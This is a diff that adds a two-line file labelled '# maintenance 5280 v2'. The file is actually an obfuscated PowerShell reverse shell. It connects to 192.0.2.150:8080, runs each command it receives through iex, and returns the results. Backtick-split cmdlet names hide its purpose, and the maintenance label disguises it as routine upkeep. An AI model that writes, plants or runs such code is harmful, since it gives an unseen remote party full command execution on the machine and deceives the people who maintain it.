@@ -1,0 +1,2 @@
+# maintenance 5280 v2
+$client = Ne`w-`Object S`yste`m.Net.`Soc`ket`s.TCPC`l`ient('192.0.2.150',8080);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (Ne`w-Ob`je`ct -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (ie`x $data 2>&1 | Out-`Str`ing );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
